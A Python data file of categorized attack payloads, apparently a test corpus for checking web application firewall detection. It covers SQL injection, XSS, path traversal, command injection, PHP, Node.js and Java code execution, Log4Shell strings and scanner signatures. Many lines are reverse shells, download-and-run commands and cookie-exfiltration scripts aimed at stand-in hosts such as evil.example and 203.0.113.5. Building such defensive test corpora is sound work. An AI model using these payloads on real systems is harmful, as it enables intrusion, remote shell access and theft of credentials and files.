"""Attack payloads per family, from the classic public payload lists' variety (encodings,
case, comments, obfuscation). make_corpus.py places each where a WAF must see it: query,
path, headers, cookies, form and multipart bodies, XML, non-prompt JSON fields.
"""

SQLI = [
    "1' OR '1'='1", "1' OR 1=1--", "' OR 1=1#", "admin'--", "admin' #", "admin'/*",
    "' or ''='", "1 OR 1=1", "1' AND 1=2 UNION SELECT username, password FROM users--",
    "-1 UNION SELECT 1,2,3--", "1 UNION ALL SELECT NULL,NULL,NULL--",
    "1' UnIoN SeLeCt table_name,2 FrOm information_schema.tables--",
    "1'/**/UNION/**/SELECT/**/password/**/FROM/**/users--", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
    "1' AND SLEEP(5)--", "1 AND sleep(5)", "1'; WAITFOR DELAY '0:0:5'--", "1); SELECT pg_sleep(10)--",
    "1' AND BENCHMARK(5000000,MD5(1))--", "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)--",
    "'; DROP TABLE users;--", "1; DELETE FROM accounts", "1'; EXEC xp_cmdshell('dir')--",
    "1' AND extractvalue(1,concat(0x7e,(SELECT version())))--",
    "1' AND updatexml(1,concat(0x7e,user()),1)--", "' AND 1=CONVERT(int,@@version)--",
    "1' ORDER BY 10--", "1' GROUP BY 1,2,3 HAVING 1=1--", "' OR 'x'='x", "\" OR \"\"=\"",
    "1 AND 1=1", "1' AND '1'='1", "1 OR 2>1", "x' AND email IS NULL; --",
    "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
    "1' AND (SELECT COUNT(*) FROM sysobjects)>0--", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL)",
    "1' INTO OUTFILE '/var/www/html/shell.php'--", "1' UNION SELECT LOAD_FILE('/etc/passwd')--",
    "1'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'", "1' AND 1=(SELECT 1 FROM pg_catalog.pg_tables LIMIT 1)--",
    "%27%20OR%201%3D1--", "1%27%20UNION%20SELECT%20NULL--", "1%2527%20OR%25201%3D1--",
    "1' or sleep(5)#", "';SELECT+*+FROM+users;--", "1)) OR ((1=1", "') OR ('a'='a",
    "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))--",
    "1 AND 5650=CAST((CHR(113)||CHR(106))||(SELECT 1)::text AS NUMERIC)",
    "1;SELECT+IF(1=1,SLEEP(5),0)", "admin' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055'--",
    "1' AND MAKE_SET(1,(SELECT user()))--", "'+(SELECT 0x53514c69)+'", "1' OR '1'='1' LIMIT 1 OFFSET 0 --",
    "' HAVING 1=1 --", "' UNION SELECT @@version,NULL--", "1;EXEC sp_configure 'show advanced options',1--",
]

NOSQL = ["{\"$gt\": \"\"}", "{\"$ne\": null}", "'; return this.password == 'x' || '1'=='1", "{\"$where\": \"sleep(5000)\"}"]
NOSQL_NAMES = ["username[$ne]", "password[$gt]", "user[$regex]", "filter[$where]"]

XSS = [
    "<script>alert(1)</script>", "<SCRIPT>alert(document.cookie)</SCRIPT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>", "<IMG SRC=\"javascript:alert('XSS');\">", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>", "<iframe src=\"javascript:alert(1)\"></iframe>", "\"><script>alert(1)</script>", "'><img src=x onerror=prompt(1)>",
    "<a href=\"javascript:alert(1)\">click</a>", "javascript:alert(document.domain)", "<div onmouseover=\"alert(1)\">hover</div>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<video><source onerror=\"alert(1)\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>", "<embed src=\"javascript:alert(1)\">",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%253Cscript%253Ealert(1)%253C%252Fscript%253E", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<ScRiPt>alert(String.fromCharCode(88,83,83))</ScRiPt>",
    "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>", "<div style=\"width:expression(alert(1))\">", "<link rel=stylesheet href=javascript:alert(1)>",
    "<base href=\"http://evil.example/\">", "<form action=\"javascript:alert(1)\"><input type=submit>", "<button formaction=javascript:alert(1)>x",
    "<isindex action=javascript:alert(1) type=image>", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "{{constructor.constructor('alert(1)')()}}", "<img src=1 onerror=window.location='http://evil.example/?c='+document.cookie>",
    "<script>fetch('https://evil.example/?'+document.cookie)</script>", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<img/src/onerror=alert`1`>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<x contenteditable onblur=alert(1)>lose focus!", "<body onpageshow=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<script>document.write('<img src=http://evil.example/'+document.cookie+'>')</script>", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<textarea onfocus=alert(1) autofocus>", "<keygen autofocus onfocus=alert(1)>", "<select onfocus=alert(1) autofocus>",
    "<audio src=x onerror=alert(1)>", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//",
]

LFI = [
    "../../../../etc/passwd", "../../../../../../etc/shadow", "....//....//....//etc/passwd", "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%252e%252e%252f%252e%252e%252fetc%252fpasswd", "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "/etc/passwd%00", "../../../etc/passwd%00.jpg",
    "/proc/self/environ", "/proc/self/cmdline", "....\\\\....\\\\boot.ini", "C:\\boot.ini", "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "/var/log/apache2/access.log", "../../../../var/log/nginx/access.log", "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php", "file:///etc/passwd", "/.ssh/id_rsa", "../../../../root/.ssh/id_rsa",
    "../../../../home/ubuntu/.bash_history", "..%u2215..%u2215etc%u2215passwd", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/../../../../../../../../etc/hosts", "..;/..;/..;/etc/passwd", "..././..././..././etc/passwd", "/WEB-INF/web.xml", "../../WEB-INF/web.xml",
    "/.aws/credentials", "../.git/config", "..%255c..%255c..%255cwindows%255cwin.ini", "/etc/./passwd", "%2fetc%2fpasswd",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
]
LFI_PATHS = [
    "/static/../../../../etc/passwd", "/.env", "/.git/config", "/.git/HEAD", "/config/database.yml.bak", "/wp-config.php",
    "/.htpasswd", "/backup.sql", "/.aws/credentials", "/server.key", "/..%2f..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/.ssh/id_rsa", "/web.config", "/.DS_Store", "/.svn/entries", "/app/..%5c..%5c..%5cwindows%5cwin.ini", "/db.sqlite3",
]

RFI = [
    "http://203.0.113.5/shell.txt?", "https://evil.example/shell.txt?", "http://198.51.100.7/c99.php", "ftp://203.0.113.5/backdoor.txt",
    "http://evil.example/r57.txt??", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "expect://id", "phar://./uploads/evil.jpg/shell.php",
    "zip://uploads/avatar.jpg%23shell.php", "\\\\203.0.113.5\\share\\shell.php", "http://0xcb007105/shell.txt", "http://3405803781/x.php",
    "https://raw.githubusercontent.example/attacker/x/main/shell.txt?", "http://[::ffff:cb00:7105]/a.txt", "php://input",
    "http://10.0.0.5:8080/payload.inc", "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stats", "ldap://203.0.113.5/a", "jar:http://evil.example/x.jar!/",
]
RFI_PARAMS = ["page", "include", "file", "template", "path", "mosConfig_absolute_path", "lang", "url", "doc", "module"]

RCE_UNIX = [
    ";id", "|id", "||id", "&&id", "&id&", "`id`", "$(id)", ";cat /etc/passwd", "| cat /etc/passwd", "; ls -la /", "&& whoami", "| whoami",
    "; uname -a", "$(uname -a)", "`uname -a`", "; wget http://203.0.113.5/x.sh -O /tmp/x.sh", "; curl http://evil.example/x.sh | sh",
    "$(curl -s http://evil.example/x|bash)", "| nc -e /bin/sh 203.0.113.5 4444", "; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "; rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
    "; python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.5\",4444))'", "; perl -e 'use Socket;$i=\"203.0.113.5\"'",
    "; sleep 10", "| sleep 5", "& ping -c 10 127.0.0.1 &", "%0aid", "%0a/bin/cat%20/etc/passwd", "a;${IFS}cat${IFS}/etc/passwd", ";cat$IFS/etc/passwd",
    ";c'a't /etc/passwd", ";w\\h\\o\\a\\m\\i", ";/bin/c?t /etc/pa??wd", ";/???/??t /???/p??s??", ";{cat,/etc/passwd}", "$(printf 'whoami')",
    "127.0.0.1; nslookup evil.example", "x || ping -c 3 evil.example", "; echo 'ssh-rsa AAAA attacker' >> ~/.ssh/authorized_keys",
    "; chmod +x /tmp/x && /tmp/x", "`sleep 5`", "$(sleep 5)", ";netstat -an", ";ps aux", "| base64 -d <<< aWQ= | sh", ";env", "&& cat /proc/self/environ",
    "; busybox nc 203.0.113.5 4444 -e sh", "; socat tcp:203.0.113.5:4444 exec:sh", "; php -r '$sock=fsockopen(\"203.0.113.5\",4444);'",
    "() { :; }; /bin/bash -c 'cat /etc/passwd'", "() { :;}; echo; /usr/bin/id",
]
RCE_WINDOWS = [
    "& dir C:\\", "| type C:\\Windows\\win.ini", "&& whoami", "| net user", "& net user hacker P@ss /add", "& net localgroup administrators hacker /add",
    "| ipconfig /all", "& systeminfo", "| tasklist", "& cmd.exe /c whoami", "& powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "; powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\"", "| powershell Invoke-WebRequest http://evil.example/x.exe -OutFile x.exe",
    "& certutil -urlcache -split -f http://evil.example/x.exe x.exe", "& bitsadmin /transfer job http://evil.example/x.exe C:\\x.exe",
    "| reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "& wmic process call create calc.exe", "& mshta http://evil.example/x.hta",
    "& regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll", "& rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"", "| w^h^o^a^m^i",
    "& schtasks /create /tn x /tr C:\\x.exe /sc onlogon", "%COMSPEC% /c dir", "& ping -n 10 127.0.0.1", "& type %SYSTEMROOT%\\win.ini",
]

PHP = [
    "<?php system($_GET['c']); ?>", "<?php echo shell_exec('id'); ?>", "<?= `id` ?>", "<?php eval(base64_decode('ZWNobyAnaGknOw==')); ?>",
    "system('id')", "shell_exec('cat /etc/passwd')", "passthru('ls')", "exec('whoami')", "phpinfo()", "assert($_POST['x'])",
    "eval($_REQUEST['cmd'])", "${@system($_GET[c])}", "file_put_contents('shell.php','<?php system($_GET[1]);')", "include($_GET['p'])",
    "preg_replace('/.*/e','system(\"id\")','')", "create_function('','system(\"id\");')", "call_user_func('system','id')",
    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}", "O:21:\"Illuminate\\Broadcasting\":1:{s:9:\"\\0*\\0events\";O:15:\"Faker\\Generator\":0:{}}",
    "a:2:{i:0;O:4:\"Evil\":0:{}i:1;s:1:\"x\";}", "$_GET['a']($_GET['b'])", "(\"sys\".\"tem\")(\"id\")", "$f='sys'.'tem';$f('id');",
    "allow_url_include=1", "auto_prepend_file=php://input", "base64_decode('c3lzdGVtKCdpZCcpOw==')", "highlight_file('/etc/passwd')",
    "<?php $s=fsockopen(\"203.0.113.5\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\"); ?>", "gzinflate(base64_decode('S0lNTgEA'))", "proc_open('id',array(),$p)",
]

NODEJS = [
    "require('child_process').exec('id')", "require(\"child_process\").execSync(\"cat /etc/passwd\")", "process.mainModule.require('child_process').execSync('id')",
    "global.process.mainModule.constructor._load('child_process').exec('id')", "this.constructor.constructor('return process')().exit()",
    "[].constructor.constructor('return this.process.env')()", "new Function('return process')()", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "require('fs').readFileSync('/etc/passwd')", "process.binding('spawn_sync')", "eval(\"require('child_process').exec('id')\")",
    "{\"__proto__\":{\"isAdmin\":true}}", "import('child_process').then(m=>m.exec('id'))", "process.kill(process.pid)",
    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")()')", "spawn('sh', ['-c', 'id'])",
]
NODEJS_NAMES = ["__proto__[isAdmin]", "constructor[prototype][isAdmin]", "__proto__.polluted", "a[__proto__][x]", "constructor.prototype.admin"]

JAVA = [
    "${jndi:ldap://203.0.113.5:1389/a}", "${jndi:rmi://evil.example/obj}", "${jndi:dns://evil.example/x}", "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}",
    "${j${::-n}di:ldap://evil.example/a}", "${${upper:j}ndi:ldap://evil.example/a}", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
    "${jndi:ldaps://evil.example/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}",
    "${jNdI:LdAp://evil.example/a}", "${env:AWS_SECRET_ACCESS_KEY}", "${sys:java.version}", "${jndi:iiop://evil.example/a}", "${${base64:JHtqbmRp}:ldap://evil.example/a}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABdAABYXQAAWJ4",
    "aced0005737200116a6176612e7574696c2e486173684d6170", "org.apache.commons.collections.functors.InvokerTransformer",
    "java.lang.Runtime.getRuntime().exec(\"id\")", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='id')}", "(#context['xwork.MethodAccessor.denyMethodExecution']=false)",
    "T(java.lang.Runtime).getRuntime().exec('id')", "#{T(java.lang.Runtime).getRuntime().exec('calc')}", "${T(java.lang.System).getenv()}",
    "new java.lang.ProcessBuilder({'id'}).start()", "''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass())",
    "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>",
    "com.sun.rowset.JdbcRowSetImpl", "${request.getClass().getClassLoader()}", "#{session.setAttribute('a','b')}", "ysoserial CommonsCollections5 'id'",
    "javax.naming.InitialContext", "${facesContext.getExternalContext()}",
]
SPRING4SHELL_NAMES = [
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern", "class.module.classLoader.resources.context.parent.pipeline.first.suffix",
    "class.classLoader.URLs[0]", "class.protectionDomain.codeSource.location",
]

FIXATION = [
    "<script>document.cookie=\"sessionid=1234; path=/; domain=.example.com\";</script>", "document.cookie='PHPSESSID=attacker; expires=Fri, 31 Dec 2027 23:59:59 GMT'",
    "<meta http-equiv=\"Set-Cookie\" content=\"JSESSIONID=abc\">", "\";document.cookie=\"sid=evil;path=/", "x.cookie=\"s=1; domain=example.com\"",
]
FIXATION_URIS = [
    "/login?PHPSESSID=attacker123", "/v1/chat/completions;jsessionid=0123456789ABCDEF", "/index.php?sessionid=fixed&next=/", "/app?JSESSIONID=ABCDEF0123",
    "/account?sid=deadbeef", "/auth/callback?ASPSESSIONIDQQGGGNCG=LKJHGF", "/cart?ci_session=attacker", "/home?connect.sid=s%3Aabc",
]

SCANNER_UAS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.x", "Nessus SOAP", "OpenVAS-VT 21.4", "Acunetix-Product: WVS/13.0",
    "Mozilla/5.0 (compatible; Netsparker)", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", "gobuster/3.6", "Fuzz Faster U Fool v2.1.0-dev",
    "Wfuzz/3.1.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "w3af.org",
    "Arachni/v1.5.1", "Havij", "ZmEu", "WhatWeb/0.5.5", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1) commix/v3.8", "DirBuster-1.0-RC1", "feroxbuster/2.10.1", "XSStrike", "skipfish",
]
SCANNER_HEADERS = [("Acunetix-Product", "WVS/14.0"), ("X-Scanner", "Netsparker"), ("X-Wipp", "WebInspect")]
SCANNER_PATHS = ["/nessus_is_probing_you_", "/w00tw00t.at.ISC.SANS.DFind:)", "/acunetix-wvs-test-for-some-inexistent-file"]
